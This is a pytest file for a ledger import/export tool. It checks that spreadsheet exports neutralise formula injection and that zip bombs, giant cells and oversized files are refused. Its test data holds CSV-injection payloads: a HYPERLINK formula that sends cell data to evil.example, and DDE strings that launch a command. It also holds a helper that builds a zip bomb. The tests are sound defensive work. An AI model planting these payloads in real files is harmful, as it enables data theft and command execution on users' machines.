"""Hostile ledgers (issue 12, defect 6): exports safe to open in Excel/WPS, and files that
would exhaust the machine refused with a clear error before they are read, nothing written."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest

from graph.engine import Engine
from seed.ledgers import ImportReport, LedgerError, LedgerLimits, export_ledgers, import_ledgers
from seed.ledgers.sources import neutralise, restore
from tests.graph_state import fingerprint
from tests.ledgers.conftest import BASE, compare_exports, write_csv, write_xlsx

LATER = "2026-12-01T00:00:00Z"
HOSTILE = {
    "p-1": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "p-2": "+1+cmd|' /C calc'!A0",
    "p-3": "-2+3",
    "p-4": "@SUM(1+1)*cmd|' /C calc'!A0",
}
EQUIPMENT = ["uid", "name", "category", "cell"]


def refused(engine: Engine, paths: list[Path], limits: LedgerLimits | None = None) -> list[str]:
    """The issues an import reports; the graph must be exactly as it was."""
    before = fingerprint(engine)
    with pytest.raises(LedgerError) as caught:
        import_ledgers(engine, paths, as_of=LATER, limits=limits)
    assert fingerprint(engine) == before, "a refused import wrote something"
    return [str(issue) for issue in caught.value.issues]


def test_neutralise_and_restore_are_inverse() -> None:
    for text in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=kept", "plain", "'quoted", "'"]:
        assert restore(neutralise(text)) == text
    assert [neutralise(t) for t in ["=1", "\tx", "a=1"]] == ["'=1", "'\tx", "a=1"]


@pytest.mark.parametrize(("fmt", "lang"), [("csv", "en"), ("xlsx", "zh")])
def test_formula_names_go_out_neutralised_and_come_back_as_written(
    engine: Engine,
    empty_engine: Engine,
    base: ImportReport,
    tmp_path: Path,
    fmt: str,
    lang: str,
) -> None:
    people = [
        BASE["people"][0],
        *([*r[:2], HOSTILE.get(r[0], r[2]), *r[3:]] for r in BASE["people"][1:]),
    ]
    import_ledgers(engine, [write_csv(tmp_path / "in" / "people.csv", people)], as_of=LATER)
    first, second = tmp_path / "first", tmp_path / "second"
    export_ledgers(engine, first, fmt=fmt, lang=lang)
    name = "人员" if lang == "zh" else "people"
    if fmt == "csv":
        with (first / f"{name}.csv").open(encoding="utf-8-sig", newline="") as handle:
            cells = {row[0]: row[2] for row in csv.reader(handle)}
    else:
        book = openpyxl.load_workbook(first / f"{name}.xlsx")  # not read-only: data types
        sheet = book[name]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        cells = {row[0].value: row[2].value for row in sheet.iter_rows()}
    assert {uid: cells[uid] for uid in HOSTILE} == {uid: "'" + v for uid, v in HOSTILE.items()}
    import_ledgers(empty_engine, [first], as_of=LATER)
    stored = empty_engine.run(
        "MATCH (p:Person) WHERE p.uid IN $uids RETURN p.uid AS uid, p.name AS name",
        {"uids": list(HOSTILE)},
        readonly=True,
    )
    assert {r["uid"]: r["name"] for r in stored} == HOSTILE
    export_ledgers(empty_engine, second, fmt=fmt, lang=lang)
    compare_exports(first, second)


def _bomb(path: Path, unpacked: int) -> Path:
    """A workbook of a few kilobytes whose sheet inflates to ``unpacked`` bytes."""
    write_xlsx(path, {"equipment": [EQUIPMENT, ["eq-9", "阀", "valve", "cell-1"]]})
    padding = b"<!--" + b" " * (unpacked - 7) + b"-->"
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/padding.xml", padding)
    return path


def test_a_zip_bomb_is_refused_before_it_is_inflated(engine: Engine, tmp_path: Path) -> None:
    bomb = _bomb(tmp_path / "equipment.xlsx", 64 * 1024 * 1024)
    assert bomb.stat().st_size < 200_000
    limits = LedgerLimits(max_unzipped_bytes=16 * 1024 * 1024)
    [problem] = refused(engine, [bomb], limits)
    assert problem.startswith("equipment.xlsx: the workbook unpacks to 67,")
    assert problem.endswith(" bytes, over the limit of 16,777,216 (--max-unzipped-mb)")


def test_a_giant_cell_is_refused_with_its_place(engine: Engine, tmp_path: Path) -> None:
    giant = "阀" * 20_000_000
    ledger = write_csv(
        tmp_path / "equipment.csv",
        [EQUIPMENT, ["eq-8", "阀", "valve", "cell-1"], ["eq-9", giant, "valve", "cell-1"]],
    )
    assert refused(engine, [ledger]) == [
        "equipment.csv: row 3, column 2: a cell of 20,000,000 characters, over the limit of "
        "32,767 (--max-cell-chars)"
    ]


def test_too_many_rows_and_too_large_a_file_are_refused(engine: Engine, tmp_path: Path) -> None:
    rows = [EQUIPMENT, *([f"eq-{n}", "阀", "valve", "cell-1"] for n in range(10))]
    ledger = write_csv(tmp_path / "csv" / "equipment.csv", rows)
    book = write_xlsx(tmp_path / "xlsx" / "设备.xlsx", {"设备": rows})
    limits = LedgerLimits(max_rows=5)
    assert refused(engine, [ledger, book], limits) == [
        "equipment.csv: more than 5 rows (--max-rows); split the ledger",
        "设备.xlsx: sheet 设备 declares 11 rows, more than 5 (--max-rows); split the ledger",
    ]
    size = ledger.stat().st_size
    assert refused(engine, [ledger], LedgerLimits(max_file_bytes=100)) == [
        f"equipment.csv: the file is {size:,} bytes, over the limit of 100 (--max-file-mb); "
        "split the ledger"
    ]
